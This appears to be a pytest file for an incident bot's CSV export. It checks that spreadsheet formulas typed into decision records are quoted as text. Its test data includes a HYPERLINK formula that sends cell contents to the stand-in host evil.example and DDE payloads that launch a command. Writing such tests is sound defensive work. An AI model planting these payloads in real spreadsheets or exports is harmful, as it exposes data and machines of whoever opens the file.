"""Spreadsheet formulas in exports stay text (OWASP, "CSV Injection").

Every CSV the bot makes is written by one function (``commands/incident/documents.csv_bytes``);
these tests put formulas into every text a person can type into a decision, export every
record, and read back each CSV the export stored.
"""

from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import select

from commands.records.documents import CSV, FORMULA_START, cell, csv_bytes
from storage.models import Document
from storage.unit_of_work import Database
from tests.conftest import Driver
from tests.fakes.steps import declare, ok

INC = "INC-2026-001"
HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"Click")'
FORMULAS = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0"]


@pytest.mark.parametrize("start", FORMULA_START)
def test_each_formula_start_is_quoted_and_nothing_else_is(start: str) -> None:
    assert cell(f"{start}1+1") == f"'{start}1+1"
    assert cell(f"a{start}1") == f"a{start}1"  # only the first character matters
    assert cell(None) == "" and cell(3) == "3" and cell("'=x") == "'=x"  # quoted once


def rows_of(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def test_the_writer_quotes_headers_and_rows_exercise_or_not() -> None:
    for exercise in (False, True):
        rows = rows_of(csv_bytes(["=h"], [["\t=x"], ["\r+y"], ["ok"]], exercise))
        cells = [c for row in rows for c in row]
        assert "'=h" in cells and "'\t=x" in cells and "'\r+y" in cells and "ok" in cells
        assert not [c for c in cells if c.startswith(FORMULA_START)]


def test_formulas_typed_into_decisions_are_text_in_every_csv_export(
    bot: Driver, db: Database
) -> None:
    declare(bot, "--level strategic --exercise --tcg-chair fatima")
    for formula in FORMULAS:
        ok(
            bot.submit(
                "hana",
                {
                    "form": "decide",
                    "reference": INC,
                    "what": formula,
                    "rationale": formula,
                    "options_considered": formula,
                    "decided_by": formula,
                    "group": "imt",
                    "meeting": formula,
                    "evidence": formula,
                },
            )
        )
    ok(bot.cmd("ian", f"export {INC} decisions timeline"))
    with db.read() as s:
        exported = {
            d.filename: d.content for d in s.scalars(select(Document)) if d.media_type == CSV
        }
    # Both CSV records: the decision log and the timeline (whose audit "after" holds the text).
    assert sorted(exported) == [
        "EXERCISE-INC-2026-001-decision-log.csv",
        "EXERCISE-INC-2026-001-timeline.csv",
    ]
    log = rows_of(exported["EXERCISE-INC-2026-001-decision-log.csv"])
    for name, content in exported.items():
        cells = [c for row in rows_of(content) for c in row]
        live = [c for c in cells if c.startswith(FORMULA_START)]
        assert not live, f"{name} holds cells a spreadsheet would run: {live[:3]}"
    header = log[0]
    for column in ("decision", "rationale", "options_considered", "decided_by", "meeting"):
        written = [row[header.index(column)] for row in log[1:]]
        for formula in FORMULAS:
            assert "'" + formula in written, (column, formula)  # kept, as text, not dropped
